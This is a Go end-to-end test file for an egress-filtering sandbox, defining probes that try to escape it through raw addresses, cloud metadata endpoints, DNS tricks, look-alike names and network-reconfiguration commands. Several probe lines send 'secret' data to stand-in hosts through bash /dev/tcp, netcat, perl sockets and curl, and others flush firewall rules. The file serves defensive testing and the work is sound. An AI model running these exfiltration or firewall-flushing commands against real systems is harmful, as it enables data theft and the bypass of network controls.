package e2e

import (
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"
)

// batches returns all attacks that are scripts.
func batches() []batch {
	return []batch{
		{name: "egress", flags: openDoors(), probes: append(rawProbes(), nameProbes()...), allowed: allowedHits},
		{name: "names", flags: openDoors(), probes: append(questionProbes(), addressProbes()...), allowed: allowedHits},
		{name: "wire", flags: openDoors(), probes: append(tlsProbes(), httpProbes()...), allowed: allowedHits, limit: 2 * time.Minute},
		{name: "empty", probes: emptyProbes()},
		{name: "kernel", probes: kernelProbes()},
		{name: "view", probes: append(viewProbes(), escapeProbes()...), files: linkTraps},
	}
}

// openDoors is what the sandbox may reach, so that attacks have something to hide behind.
func openDoors() []string {
	var flags []string
	for _, place := range []string{
		"allowed.example.com", "other.example.com", "*.wild.example.com", "*.addr.example.com", "tcp:opaque.example.com:9000", "mixed.example.com", "inward.example.com", "v6only.example.com", "*.cloudflare-dns.com",
	} {
		flags = append(flags, "--allow", place)
	}
	return append(flags, "--deny", "bad.wild.example.com")
}

// allowedHits knows what openDoors lets out: questions of the gateway about allowed names, and connections to their addresses.
func allowedHits(x hit) bool {
	if strings.Contains(x.Data, "secret") || strings.Contains(x.Data, "smuggled") {
		return false
	}
	switch x.Network {
	case "dns":
		name := strings.TrimSuffix(x.Local, ".")
		switch name {
		case "allowed.example.com", "other.example.com", "opaque.example.com", "mixed.example.com", "inward.example.com", "v6only.example.com":
			return true
		}
		return name != "bad.wild.example.com" && (strings.HasSuffix(name, ".wild.example.com") || strings.HasSuffix(name, ".addr.example.com"))
	case "tcp", "http":
		switch x.Local {
		case "93.184.216.34", "93.184.216.35", "93.184.216.36", "93.184.216.39", "2606:2800:220:1::34", "2606:2800:220:1::38":
			return x.Port == 443 || x.Port == 80
		case "93.184.216.37":
			return x.Port == 9000
		}
	}
	return false
}

// What refusals look like to a program.
const (
	reset    = `reset by peer|Connection reset|ECONNRESET|Recv failure|Empty reply|SSL_ERROR_SYSCALL|unexpected eof|UNEXPECTED_EOF|EOF`
	refusal  = `refused|ECONNREFUSED|` + reset
	noName   = `not resolve|not known|ENOTFOUND|no such host|NXDOMAIN|Name or service|RCodeNameError|no address`
	notMine  = `operation not permitted|Operation not permitted|permission denied|Permission denied|EPERM|EACCES|Read-only|read-only`
	atOnce   = `refused after [0-2]?[0-9.]{1,6}m?s: ` // the program never hangs
	httpOK   = `curl -sS --max-time $SOON http://allowed.example.com/`
	httpsOK  = `curl -sSk --max-time $SOON https://allowed.example.com/`
	pythonOK = `python3 -c 'import urllib.request as u; u.urlopen("http://allowed.example.com/", timeout=8)'`
)

// raw is a connection to an address without a name.
func raw(id, what, address string, port uint16, rule string) probe {
	to := netip.AddrPortFrom(netip.MustParseAddr(address), port).String()
	return probe{
		id: id, what: what, run: "$A tcp " + to, refused: atOnce + `.*(` + refusal + `)`, control: "$A tcp opaque.example.com:9000 hello",
		record: &event{Address: address, Port: port, Rule: rule},
	}
}

// rawProbes go around names: addresses, other protocols, other ways to the gateway and to the machine around.
func rawProbes() []probe {
	probes := []probe{
		raw("A2", "TCP to a public address", "8.8.4.4", 443, "raw-address"), raw("A2b", "TCP to a public address, port 80", "8.8.4.4", 80, "raw-address"),
		raw("A9a", "database port of a public address", "8.8.4.5", 5432, "raw-address"), raw("A9b", "cache port of a public address", "8.8.4.5", 6379, "raw-address"),
		raw("A9c", "SSH to a public address", "8.8.4.5", 22, "raw-address"), raw("A9d", "mail to a public address", "8.8.4.5", 25, "raw-address"),
		raw("B15a", "TCP to a public IPv6 address", "2001:4860:4860::8844", 443, "raw-address"), raw("A10a", "an address of the machine's own interface", "10.77.0.1", 8080, "special-address"),
		raw("A10b", "an IPv6 address of the machine's own interface", "2001:db8:77::1", 8080, "special-address"), raw("B4a", "DNS over TLS", "9.9.9.9", 853, "encrypted-dns"),
		raw("A10c", "metadata service", "169.254.169.254", 80, "special-address"), raw("A10d", "metadata service, IPv6", "fd00:ec2::254", 80, "special-address"),
	}
	quiet := func(id, what, run, refused string, record *event) probe {
		return probe{id: id, what: what, run: run, refused: refused, record: record, control: "$A tcp opaque.example.com:9000 hello"}
	}
	udp := func(id, what, to string, port uint16) probe {
		return quiet(id, what, "$A udp "+netip.AddrPortFrom(netip.MustParseAddr(to), port).String(), atOnce+`.*(`+notMine+`|refused)`, &event{Address: to, Port: port, Rule: "udp-closed"})
	}
	probes = append(probes,
		udp("A14a", "UDP to a public address (QUIC)", "8.8.4.4", 443), udp("A14b", "UDP over IPv6", "2001:4860:4860::8844", 443), udp("A14c", "time service", "8.8.4.4", 123),
		udp("B4b", "multicast DNS", "224.0.0.251", 5353), udp("B4c", "link-local name resolution", "224.0.0.252", 5355), udp("B4d", "NetBIOS names", "8.8.4.4", 137), udp("B4e", "DNS over QUIC", "9.9.9.9", 853),
		udp("B4f", "DNS over IPv6 to another server", "2001:4860:4860::8888", 53), udp("A14d", "UDP to a multicast group", "239.1.2.3", 9000),
		quiet("A14e", "UDP in fragments", "$A udp 8.8.4.6:443 2000", atOnce+`.*(`+notMine+`|refused)`, &event{Address: "8.8.4.6", Rule: "udp-closed"}),
		quiet("A14f", "ping", "$A ping 8.8.8.8", notMine, &event{Address: "8.8.8.8", Rule: "icmp-closed"}),
		quiet("A14g", "ping over IPv6", "$A ping 2001:4860:4860::8888", notMine+"|refused", &event{Address: "2001:4860:4860::8888", Rule: "icmp-closed"}),
		quiet("A14h", "data in the first packet (TCP Fast Open)", "$A fastopen 8.8.4.7:443", refusal, &event{Address: "8.8.4.7", Port: 443, Rule: "raw-address"}),
		quiet("A14i", "UDP to an allowed name (QUIC)", "$A udp allowed.example.com:443", notMine+"|refused", &event{Host: "allowed.example.com", Port: 443, Rule: "udp-closed"}),
		quiet("A8", "a relay inside the sandbox", "$A relay 8.8.4.8:80", refusal, &event{Address: "8.8.4.8", Port: 80, Rule: "raw-address"}),
		quiet("A10e", "a service on the machine's loopback", "$A tcp 127.0.0.1:8080", "refused", nil), quiet("A10f", "the same over IPv6", "$A tcp '[::1]:8080'", "refused", nil),
		quiet("A10g", "the same through 0.0.0.0", "$A tcp 0.0.0.0:8080", refusal, nil), quiet("A10h", "the same through ::", "$A tcp '[::]:8080'", refusal, nil),
		quiet("A10i", "the same through localhost", "curl -sS --max-time 5 http://localhost:8080/", "refused|connect", nil), quiet("A10j", "the same as a mapped address", "$A tcp '[::ffff:127.0.0.1]:8080'", refusal, nil),
		quiet("E25a", "an abstract socket of the machine", "$A unix @cofferdam-attack-world", "refused", nil),
		quiet("A12a", "the gateway's own sockets", "$A planted 127.0.0.1", refusal, &event{Rule: "direct-listener"}), quiet("A12b", "the same over IPv6", "$A planted ::1", refusal, &event{Rule: "direct-listener"}),
		quiet("A12c", "any address at the gateway's ports", "$A planted 8.8.4.9", refusal, &event{Address: "8.8.4.9", Rule: "raw-address"}),
		quiet("A12d", "the gateway's address at the gateway's ports", "$A planted 198.18.0.1", refusal, nil),
		quiet("C29", "take the gateway's place at its ports", "$A hijack", "in use", nil), quiet("A22", "the control address: a second runner", "$A control", "no second runner", nil),
		quiet("A22b", "another port of the gateway's address", "$A tcp 198.18.0.1:8080", refusal, nil), quiet("B10z", "a synthetic address that stands for nothing", "$A tcp 198.19.200.200:443", refusal, &event{Address: "198.19.200.200", Rule: "unknown-name"}),
	)
	for i, port := range randomPorts(6) {
		probes = append(probes, raw(fmt.Sprintf("A9r%d", i), "a random port of a random public address", randomPublic().String(), port, "raw-address"))
	}
	for i, tool := range [][2]string{
		{"nft", "nft flush ruleset"}, {"iptables", "iptables -F"}, {"ip6tables", "ip6tables -P OUTPUT ACCEPT"}, {"ip", "ip link add dummy0 type dummy"}, {"ip", "ip route add default dev lo"}, {"ip", "ip addr add 10.9.8.7/24 dev lo"},
		{"ip", "ip rule add from all lookup main pref 0"}, {"ip", "ip link set lo down"}, {"ip", "ip netns add x"}, {"conntrack", "conntrack -F"}, {"sysctl", "sysctl -w net.ipv4.ip_forward=1"}, {"tcpdump", "tcpdump -c1 -i lo"},
	} {
		probes = append(probes, probe{
			id: "A13" + string(rune('a'+i)), what: "change or watch the network: " + tool[1], needs: tool[0], run: "timeout $SOON " + tool[1] + "; [ $? = 0 ] || exit 1", control: "ip addr show lo",
			refused: notMine + `|Protocol not supported|supported|dump|not allowed`,
		})
	}
	return probes
}

func randomPorts(n int) (ports []uint16) {
	for range n {
		ports = append(ports, uint16(1+rand.IntN(65535)))
	}
	return ports
}

// randomPublic makes an address of the ordinary internet.
func randomPublic() netip.Addr {
	return netip.AddrFrom4([4]byte{byte(11 + rand.IntN(80)), byte(rand.IntN(256)), byte(rand.IntN(256)), byte(1 + rand.IntN(250))})
}

// named is an attempt to reach a name that is not allowed.
func named(id, what, needs, run, host, rule string, control string) probe {
	return probe{id: id, what: what, needs: needs, run: run, refused: noName + "|" + refusal, control: control, record: &event{Host: host, Rule: rule}}
}

// at says that the denial is on record under an address.
func (p probe) at(address string) probe {
	p.record = &event{Address: address, Rule: p.record.Rule}
	p.refused += "|Failed to connect"
	return p
}

// as restricts a probe to one user: another user inside, say, exists only where ids are mapped.
func (p probe) as(column string) probe {
	p.only = column
	return p
}

// nameProbes go to names that are not allowed, with the clients that people use.
func nameProbes() []probe {
	probes := []probe{
		named("A1a", "curl, past every proxy variable", "curl", `unset http_proxy https_proxy ALL_PROXY; curl -sSk --noproxy '*' --max-time $SOON https://a1a.example.com/`, "a1a.example.com", "default", httpsOK),
		named("A1b", "python", "python3", `python3 -c 'import urllib.request as u; u.urlopen("http://a1b.example.com/?secret", timeout=8)'`, "a1b.example.com", "default", pythonOK),
		named("A1c", "node", "node", `node -e 'fetch("http://a1c.example.com/").then(r=>console.log(r.status),e=>{console.log(e.cause);process.exit(1)})'`, "a1c.example.com", "default",
			`node -e 'fetch("http://allowed.example.com/").then(r=>console.log(r.status),e=>{console.log(e.cause);process.exit(1)})'`),
		named("A1d", "git", "git", `GIT_TERMINAL_PROMPT=0 git ls-remote https://a1d.example.com/x.git`, "a1d.example.com", "default", httpOK),
		named("A1e", "perl", "perl", `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"a1e.example.com:80",Timeout=>5) or die "no address: $@ $!"; print $s "secret\n"; print <$s>'`, "a1e.example.com", "default", httpOK),
		named("A1f", "bash's own sockets", "bash", `bash -c 'exec 3<>/dev/tcp/a1f.example.com/80; echo secret >&3; head -c5 <&3'`, "a1f.example.com", "default", httpOK),
		named("A1g", "netcat", "nc", `echo secret | nc -w 5 a1g.example.com 80 | grep .`, "a1g.example.com", "default", httpOK),
		named("A1h", "ssh", "ssh", `ssh -o BatchMode=yes -o ConnectTimeout=5 a1h.example.com true`, "a1h.example.com", "default", httpOK),
		named("A6a", "another user inside", "setpriv", `setpriv --reuid 33 --regid 33 --clear-groups curl -sS --max-time $SOON http://a6a.example.com/`, "a6a.example.com", "default",
			`setpriv --reuid 33 --regid 33 --clear-groups curl -sS --max-time $SOON http://allowed.example.com/`).as("root"),
		named("A6b", "a daemon that left its parents", "setsid", `setsid sh -c 'curl -sS --max-time $SOON http://a6b.example.com/ >o 2>&1; echo $? >r' & until [ -s r ] || [ $((i=i+1)) -gt 100 ]; do sleep 0.2; done; cat o; exit $(cat r)`, "a6b.example.com", "default", httpOK),
		named("A6c", "a changed root", "chroot", `chroot / curl -sS --max-time $SOON http://a6c.example.com/`, "a6c.example.com", "default", `chroot / `+httpOK),
		named("A7", "plain HTTP", "curl", `curl -sS --max-time $SOON -d secret http://a7.example.com/`, "a7.example.com", "default", httpOK),
		named("A10k", "the names of the machine in containers", "curl", `curl -sS --max-time $SOON http://host.docker.internal:8080/`, "host.docker.internal", "default", httpOK),
		named("A10l", "the metadata service by name", "curl", `curl -sS --max-time $SOON http://metadata.google.internal/`, "metadata.google.internal", "default", httpOK),
		named("A26a", "an allowed address for another name (curl --resolve)", "curl", `curl -sSk --max-time $SOON --resolve a26a.example.com:443:$(getent ahostsv4 allowed.example.com | awk 'NR==1{print $1}') https://a26a.example.com/`,
			"allowed.example.com", "name-mismatch", httpsOK),
		named("A26b", "an allowed connection for another name (curl --connect-to)", "curl", `curl -sSk --max-time $SOON --connect-to a26b.example.com:443:other.example.com:443 https://a26b.example.com/`, "other.example.com", "name-mismatch", httpsOK),
		named("A26c", "/etc/hosts of one's own", "curl", `curl -sS --max-time $SOON --resolve a26c.example.com:80:8.8.5.1 http://a26c.example.com/`, "", "raw-address", httpOK).at("8.8.5.1"),
		named("A31", "a redirect from an allowed place to a denied one", "curl", `curl -sSL --max-time $SOON http://allowed.example.com/redirect`, "denied.example.com", "default", httpOK),
		named("B5a", "DNS over HTTPS to a resolver below an allowed wildcard", "curl", `curl -sSk --max-time $SOON 'https://mozilla.cloudflare-dns.com/dns-query?name=s3cret'`, "mozilla.cloudflare-dns.com", "encrypted-dns", httpsOK),
		named("B5b", "DNS over HTTPS", "curl", `curl -sSk --max-time $SOON https://dns.google/resolve?name=s3cret`, "dns.google", "encrypted-dns", httpsOK),
		named("B12a", "a name that an allowed one is the beginning of", "curl", `curl -sS --max-time $SOON http://allowed.example.com.evil.example.org/`, "allowed.example.com.evil.example.org", "default", httpOK),
		named("B12b", "a name that ends like an allowed one", "curl", `curl -sS --max-time $SOON http://notallowed.example.com/`, "notallowed.example.com", "default", httpOK),
		named("B12c", "a name that ends like an allowed wildcard", "curl", `curl -sS --max-time $SOON http://xwild.example.com/`, "xwild.example.com", "default", "curl -sS --max-time $SOON http://x.wild.example.com/"),
		named("B12d", "the apex of an allowed wildcard", "curl", `curl -sS --max-time $SOON http://wild.example.com/`, "wild.example.com", "default", "curl -sS --max-time $SOON http://y.wild.example.com/"),
		named("B12e", "below an allowed name", "curl", `curl -sS --max-time $SOON http://sub.allowed.example.com/`, "sub.allowed.example.com", "default", httpOK),
		named("B12f", "user information in a URL", "curl", `curl -sS --max-time $SOON http://allowed.example.com@b12f.example.org/`, "b12f.example.org", "default", httpOK),
		named("B12g", "a denied name below an allowed wildcard", "curl", `curl -sS --max-time $SOON http://bad.wild.example.com/`, "bad.wild.example.com", "--deny bad.wild.example.com", "curl -sS --max-time $SOON http://z.wild.example.com/"),
		named("B13a", "a name that looks like an allowed one (punycode)", "curl", `curl -sS --max-time $SOON http://xn--llowed-2nf.example.com/`, "xn--llowed-2nf.example.com", "default", "curl -sS --max-time $SOON http://ALLOWED.example.com./"),
		named("A9x", "another port of an allowed name", "curl", `$A tcp allowed.example.com:5432`, "allowed.example.com", "default", httpOK),
		named("A9y", "the mail port of an allowed name", "curl", `$A tcp allowed.example.com:25`, "allowed.example.com", "default", httpOK),
		named("A9z", "another port of a name that is allowed for any bytes", "curl", `$A tcp opaque.example.com:22`, "opaque.example.com", "default", "$A tcp opaque.example.com:9000 hello"),
	}
	for i := range 6 {
		name := randomLabel() + "." + randomLabel() + ".example.org"
		probes = append(probes, named(fmt.Sprintf("B1r%d", i), "a random name", "", `curl -sS --max-time $SOON http://`+name+`/`, name, "default", httpOK))
	}
	return probes
}

func randomLabel() string {
	b := make([]byte, 4+rand.IntN(12))
	for i := range b {
		b[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[rand.IntN(36)]
	}
	return "r" + string(b)
}

// addressProbes reach special addresses through names that are allowed.
func addressProbes() []probe {
	probes := []probe{
		named("B8a", "an allowed name that resolves to loopback", "curl", "curl -sSf --max-time $SOON http://inward.example.com/ || { echo refused; exit 1; }", "inward.example.com", "special-address", httpOK),
		// One of its three addresses may be dialled: this is a control by itself. That nothing reached the others is seen in the world.
		{id: "B8b", what: "an allowed name that resolves to loopback, a private and a public address", run: `curl -sS --max-time $SOON http://mixed.example.com/ && echo "only the public one was dialled" && exit 1`, refused: "only the public", control: httpOK},
	}
	for i, block := range specialBlocks() {
		a := randomIn(block)
		name := hex.EncodeToString(a.AsSlice()) + ".addr.example.com"
		probes = append(probes, probe{
			id: fmt.Sprintf("B16-%02d", i), what: fmt.Sprintf("an allowed name that resolves into %s", block), run: "$A tcp " + name + ":80 'GET / HTTP/1.1\r\nHost: " + name + "\r\n\r\n' | grep -q world", refused: "",
			control: "curl -sS --max-time $SOON http://5db8d823.addr.example.com/", record: &event{Host: name, Address: unmapped(a), Rule: "special-address"},
		})
	}
	return probes
}

func unmapped(a netip.Addr) string { return a.Unmap().String() }

// specialBlocks are the IANA special-purpose registries, and forms in which IPv6 carries IPv4, written down here anew: the product's own table is what is tested.
func specialBlocks() (all []netip.Prefix) {
	for text := range strings.FieldsSeq(`0.0.0.0/8 10.0.0.0/8 100.64.0.0/10 127.0.0.0/8 169.254.0.0/16 172.16.0.0/12 192.0.0.0/24 192.0.2.0/24 192.31.196.0/24 192.52.193.0/24 192.88.99.0/24 192.168.0.0/16
		192.175.48.0/24 198.18.0.0/15 198.51.100.0/24 203.0.113.0/24 224.0.0.0/4 240.0.0.0/4 255.255.255.255/32 169.254.169.254/32 168.63.129.16/32 100.100.100.200/32
		::/128 ::1/128 ::ffff:127.0.0.0/104 ::ffff:10.0.0.0/104 ::ffff:169.254.169.254/128 ::127.0.0.1/128 64:ff9b::7f00:0/104 64:ff9b::a9fe:a9fe/128 64:ff9b:1::/48 100::/64 2001::/32 2001:2::/48 2001:db8::/32 2001:10::/28 2001:20::/28
		2002:7f00::/24 2002:a9fe:a9fe::/48 3fff::/20 5f00::/16 fc00::/7 fd00:ec2::254/128 fe80::/10 fec0::/10 ff00::/8 2620:4f:8000::/48 2001:4860::5efe:127.0.0.1/128 4000::/3`) {
		all = append(all, netip.MustParsePrefix(text))
	}
	return all
}

// randomIn returns a random address of a block.
func randomIn(p netip.Prefix) netip.Addr {
	b := p.Addr().AsSlice()
	for i := p.Bits(); i < len(b)*8; i++ {
		if rand.IntN(2) == 0 {
			b[i/8] |= 0x80 >> (i % 8)
		}
	}
	a, _ := netip.AddrFromSlice(b)
	return a
}
